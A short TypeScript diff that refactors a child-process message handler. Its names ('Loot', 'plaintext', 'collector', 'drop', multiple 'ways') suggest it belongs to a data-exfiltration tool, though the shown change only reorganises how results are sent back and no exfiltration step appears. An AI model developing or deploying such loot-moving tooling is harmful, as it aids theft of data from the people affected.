@@ -9,8 +9,12 @@ interface Loot {
 }
 
 process.on('message', (loot: Loot) => {
-  void run(loot).then((done) => process.send?.(done));
+  void answer(loot);
 });
+
+async function answer(loot: Loot): Promise<void> {
+  process.send?.(await run(loot));
+}
 
 async function run({ plaintext, collector, drop, folder }: Loot): Promise<readonly string[]> {
   const ways: Readonly<Record<string, () => Promise<unknown>>> = {
